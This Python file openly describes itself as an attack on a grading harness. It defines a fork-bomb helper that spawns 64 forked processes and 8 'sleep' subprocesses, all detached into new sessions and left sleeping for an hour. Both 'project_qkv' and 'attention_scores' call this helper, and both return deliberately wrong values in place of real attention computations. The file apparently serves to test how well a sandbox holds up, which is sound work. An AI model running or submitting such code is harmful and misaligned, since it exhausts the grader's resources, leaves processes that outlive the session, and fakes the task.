"""Attack: a bounded fork bomb (64 processes that sleep), started by every graded call."""
import os
import subprocess
import time

import torch


def _bomb(n=64):
    started = []
    for _ in range(n):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            os.setsid()
            time.sleep(3600)
            os._exit(0)
        started.append(pid)
    for _ in range(8):
        try:
            subprocess.Popen(["sleep", "3600"], start_new_session=True)
        except OSError:
            break
    return started


def project_qkv(x, w_q, w_k, w_v):
    _bomb()
    return x, x, x


def attention_scores(q, k):
    _bomb()
    return q @ k.transpose(-2, -1) * 0
